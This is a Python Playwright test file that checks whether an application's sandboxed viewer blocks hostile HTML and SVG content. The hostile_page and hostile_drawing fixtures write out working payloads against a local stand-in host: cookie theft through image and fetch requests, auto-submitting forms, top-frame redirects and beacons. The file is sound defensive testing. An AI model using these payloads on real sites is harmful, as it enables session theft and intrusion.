"""What is hostile is shown in a real browser and reaches nobody (LAW.md 10.2, A18)."""

import hashlib
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress

import pytest
from playwright.sync_api import Browser, Page
from playwright.sync_api import Error as PlaywrightError

from e2e.pages.conftest import Desk, Seat
from integration.web.conftest import House
from integration.web.small_world import OTHER

SILENT = "connected, and said nothing"
MARK = "EXERCISE: a page that would do harm"
DONE = "document.title = 'ran'; document.documentElement.setAttribute('data-ran', 'yes')"


class Listener:
    """Somebody outside who notes what is asked of them."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                one, _ = self._server.accept()
            except OSError:
                return
            threading.Thread(target=self._note, args=(one,), daemon=True).start()

    def _note(self, one: socket.socket) -> None:
        """Note a visit, also of somebody who says nothing: their address is told by it."""
        with one:
            one.settimeout(0.5)
            try:
                self.asked.append(one.recv(4096).decode("latin-1").partition("\r\n")[0])
                one.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
            except OSError:
                self.asked.append(SILENT)

    def close(self) -> None:
        self._server.close()


@pytest.fixture
def outside() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


def hostile_page(evil: str) -> bytes:
    """Return a page that tries each way out and in."""
    steal = f"new Image().src = '{evil}/stolen?' + document.cookie"
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="1;url={evil}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="{evil}/style.css"><link rel="icon" href="{evil}/icon.png">
<link rel="prefetch" href="{evil}/prefetch"><link rel="preload" as="image" href="{evil}/preload">
<link rel="preconnect" href="{evil}"><link rel="modulepreload" href="{evil}/module.js">
<link rel="prerender" href="{evil}/prerender"><base href="{evil}/base/">
<style>@import url("{evil}/import.css"); body {{ background: url("{evil}/background") }}
@font-face {{ font-family: f; src: url("{evil}/font") }} h1 {{ font-family: f }}</style>
<script>{DONE}; {steal}; top.location = '{evil}/top'</script>
<script src="{evil}/script.js"></script></head>
<body onload="{DONE}; {steal}"><h1>{MARK}</h1>
<img src="{evil}/image" srcset="{evil}/image2 2x" onerror="{DONE}"><img src="relative.png">
<picture><source srcset="{evil}/source"><img src="x"></picture>
<video src="{evil}/video" poster="{evil}/poster" autoplay></video>
<audio src="{evil}/a" autoplay></audio>
<iframe src="{evil}/frame"></iframe><iframe srcdoc="<img src='{evil}/srcdoc'>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed">
<form id="f" action="{evil}/form"><input name="q" autofocus onfocus="{DONE}; f.submit()">
<button id="send">send</button></form>
<a id="away" href="{evil}/link" ping="{evil}/ping" target="_top">away</a>
<a id="self" href="{evil}/self" ping="{evil}/ping2">self</a>
<svg onload="{DONE}"><image href="{evil}/svg"/><use href="{evil}/use#x"/></svg>
<script>fetch('{evil}/fetch'); navigator.sendBeacon('{evil}/beacon'); open('{evil}/popup')</script>
</body></html>""".encode()


def hostile_drawing(evil: str) -> bytes:
    """Return a drawing that tries the same."""
    return f"""<?xml version="1.0"?><?xml-stylesheet href="{evil}/style.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{DONE}">
<script>{DONE}; fetch('{evil}/fetch?' + document.cookie); parent.location = '{evil}/top'</script>
<style>@import url("{evil}/import.css"); text {{ fill: url("{evil}/fill#x") }}</style>
<image xlink:href="{evil}/image" width="9" height="9"/><use href="{evil}/use#x"/>
<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml"
src="{evil}/frame"/></foreignObject><text y="20">{MARK}</text>
<a id="away" href="{evil}/link"><text y="40">away</text></a></svg>""".encode()


def shown(desk: Desk, house: House, data: bytes) -> str:
    """Uncover hostile bytes as an officer would; return where the frame leads."""
    sha256 = house.installation.media.put(data)
    assert sha256 == hashlib.sha256(data).hexdigest()
    page = desk.page
    desk.open(f"/candidates/{house.world.candidate.id}/")
    # The button of another file, asked for this one: hostile files are no part of the small world.
    page.evaluate(
        """sha256 => { const form = document.querySelector('form[action$="/uncover/"]');
        form.removeAttribute('hx-post');
        form.action = form.action.replace(/[0-9a-f]{64}/, sha256);
        HTMLFormElement.prototype.submit.call(form) }""",
        sha256,
    )
    page.wait_for_selector("iframe.looking-glass")
    page.wait_for_timeout(2500)  # longer than its own clock waits before it goes elsewhere
    return page.frames[1].url


def ran(page: Page) -> bool:
    """Say whether a script of the content ran, also where the page's own rules forbid one."""
    frame = page.frames[1]
    return bool(
        frame.evaluate("document.title === 'ran' || !!document.querySelector('[data-ran]')")
    )


@pytest.mark.parametrize("make", [hostile_page, hostile_drawing])
def test_hostile_content_runs_nothing_and_asks_nobody(
    make: Callable[[str], bytes], house: House, seat: Seat, outside: Listener
) -> None:
    desk = seat(house.cast.ann)
    evil = f"http://127.0.0.1:{outside.port}"

    where = shown(desk, house, make(evil))
    frame = desk.page.frames[1]

    assert where.startswith("http://localhost:")
    if make is hostile_page:
        assert MARK in frame.evaluate("document.body.textContent")
        assert f"{evil}/link" in frame.evaluate("document.body.textContent")  # words to be read
        assert frame.locator("a, form, button, input, [href], [src]").count() == 0
    else:
        assert frame.locator("img").evaluate("e => e.naturalWidth") > 0
    assert not ran(desk.page)
    assert frame.evaluate("self.origin") == "null"
    assert desk.page.url.startswith(desk.address)
    assert outside.asked == []


def test_the_policy_alone_lets_nothing_run_and_nothing_be_asked(
    house: House, seat: Seat, outside: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    from fireline.web import rendition

    hostile = hostile_page(f"http://127.0.0.1:{outside.port}").decode()
    monkeypatch.setattr(rendition, "reading_copy", lambda _page: hostile)
    desk = seat(house.cast.ann)

    shown(desk, house, hostile.encode())

    assert "/refresh" in desk.page.frames[1].content()
    assert not ran(desk.page)
    # A connection that is merely opened is what no policy forbids, and why there is a copy.
    assert set(outside.asked) <= {SILENT}


def test_cookies_of_the_desk_are_neither_sent_to_content_nor_read_there(
    house: House, seat: Seat, outside: Listener
) -> None:
    desk = seat(house.cast.ann)
    sent: list[str] = []
    tools = desk.page.context.new_cdp_session(desk.page)
    tools.send("Network.enable")
    tools.on(
        "Network.requestWillBeSentExtraInfo",
        lambda told: sent.append(str(told["headers"])),
    )
    shown(desk, house, hostile_page(f"http://127.0.0.1:{outside.port}"))

    to_content = [one for one in sent if "/content/" in one or "localhost" in one]
    readable = desk.page.frames[1].evaluate(
        "(() => { try { return document.cookie } catch (refused) { return refused.name } })()"
    )

    assert any("fireline-session" in one for one in sent)
    assert to_content
    assert [one for one in to_content if "fireline" in one] == []
    assert readable == "SecurityError"


def test_the_same_page_without_our_rules_would_have_reached_outside(
    chromium: Browser, outside: Listener
) -> None:
    page = chromium.new_page()
    with suppress(PlaywrightError):  # it goes elsewhere meanwhile
        page.set_content(hostile_page(f"http://127.0.0.1:{outside.port}").decode(), timeout=2500)
    page.wait_for_timeout(500)
    page.close()

    assert len(set(outside.asked)) > 10


def test_a_picture_of_the_world_is_still_shown(house: House, seat: Seat) -> None:
    desk = seat(house.cast.ann)
    desk.open(f"/candidates/{house.world.candidate.id}/")

    desk.page.click("text=Show it in grey")
    picture = desk.page.frame_locator("iframe.looking-glass").locator("img")
    picture.wait_for()

    assert picture.evaluate("e => [e.naturalWidth, e.naturalHeight]") == [320, 240]
    assert OTHER in desk.page.inner_text("main")
    assert desk.complaints == []
